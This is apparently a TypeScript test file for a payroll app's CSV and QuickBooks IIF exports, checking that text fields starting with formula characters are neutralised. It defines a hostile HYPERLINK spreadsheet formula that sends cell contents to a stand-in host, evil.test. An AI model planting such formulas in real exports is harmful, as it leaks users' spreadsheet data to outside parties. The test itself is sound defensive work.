import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { FORMULA_START, formulaSafe } from '@sitehours/contract';
import { genericPayrollCsv, gustoCsv, quickBooksIif, type TimeActivity } from './payroll-export';
import type { PayrollLine } from './payroll-line';

/** Every character that makes a spreadsheet run a cell as a formula. */
const STARTS = ['=', '+', '-', '@', '\t', '\r'] as const;
const FIELDS = ['notes', 'job', 'worker', 'work type', 'other type', 'email', 'company'] as const;
type Field = (typeof FIELDS)[number];

const hostile = (start: string) => `${start}HYPERLINK("http://evil.test?"&A1,"Pay")`;
const range = { startDate: '2032-01-05', endDate: '2032-01-11' };

/** One worker's data with the hostile text in one field; the other fields are ordinary. */
function data(field: Field, value: string) {
  const at = (f: Field, normal: string) => (f === field ? value : normal);
  const line: PayrollLine = {
    employeeId: 'u-1',
    employeeName: `${at('worker', 'Luis')} Hernandez`,
    firstName: at('worker', 'Luis'),
    lastName: at('worker', 'Hernandez'),
    email: at('email', 'luis@acme.test'),
    hourlyRate: 28.75,
    regularHours: 16,
    overtimeHours: 0,
    doubleTimeHours: 0,
    ptoHours: 8,
    ptoByType: { [at('other type', 'Vacation')]: 8 },
    // A correction may leave a negative amount: it must stay a number.
    grossPay: '-12.50',
  };
  const entries: TimeActivity[] = [
    {
      entry_date: '2032-01-06',
      employee: at('worker', 'Luis Hernandez'),
      job: at('job', 'Lakeshore Medical Office'),
      work_type: at('work type', 'Carpentry'),
      pto: null,
      hours: '8.00',
      notes: at('notes', 'Blocking'),
    },
    {
      entry_date: '2032-01-07',
      employee: at('worker', 'Luis Hernandez'),
      job: null,
      work_type: null,
      pto: at('other type', 'Vacation'),
      hours: '8.00',
      notes: null,
    },
  ];
  return { line, entries, company: at('company', 'Acme Construction') };
}

type Write = (d: ReturnType<typeof data>) => string[];

/** Every export format: how its cells are read back, and which of the fields it writes. */
const FORMATS: [string, Write, readonly Field[]][] = [
  ['generic', (d) => csvCells(genericPayrollCsv([d.line], range)), ['worker', 'email']],
  ['gusto', (d) => csvCells(gustoCsv([d.line])), ['worker', 'email']],
  [
    'quickbooks-iif',
    (d) =>
      quickBooksIif(d.company, d.entries, new Date('2032-01-12T00:00:00Z'))
        .split('\r\n')
        .filter(Boolean)
        .flatMap((l) => l.split('\t')),
    ['notes', 'job', 'worker', 'work type', 'other type', 'company'],
  ],
];

function csvCells(file: string): string[] {
  const parsed = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data.flat();
}

const NUMBER = /^-?\d+(\.\d+)?$/;

describe('formula-safe text cells', () => {
  it.each(STARTS.map((s) => [JSON.stringify(s), s]))(
    'prefixes text starting with %s with an apostrophe',
    (_, start) => {
      expect(formulaSafe(`${start}1+1`)).toBe(`'${start}1+1`);
    },
  );

  it('leaves other text, empty and missing values alone', () => {
    expect(formulaSafe('Luis Hernandez')).toBe('Luis Hernandez');
    expect(formulaSafe('a=b')).toBe('a=b');
    expect(formulaSafe('')).toBe('');
    expect(formulaSafe(null)).toBe('');
  });
});

describe.each(FORMATS)('%s export', (_format, write, written) => {
  const cases = STARTS.flatMap((start) =>
    FIELDS.map((field) => [field, JSON.stringify(start), start] as const),
  );

  it.each(cases)('writes a hostile %s starting with %s as text', (field, _shown, start) => {
    const cells = write(data(field, hostile(start)));
    const formulas = cells.filter((c) => FORMULA_START.test(c) && !NUMBER.test(c));
    expect(formulas).toEqual([]);
    // The fields the format carries are still there, as text.
    if (written.includes(field)) {
      expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
    }
  });

  it('keeps negative amounts as numbers', () => {
    const cells = write(data('notes', 'ok'));
    const negatives = cells.filter((c) => c.startsWith('-'));
    for (const c of negatives) expect(c).toMatch(NUMBER);
  });
});

it('writes the negative gross pay of the generic CSV unchanged', () => {
  expect(genericPayrollCsv([data('notes', 'ok').line], range)).toContain(',-12.50');
});
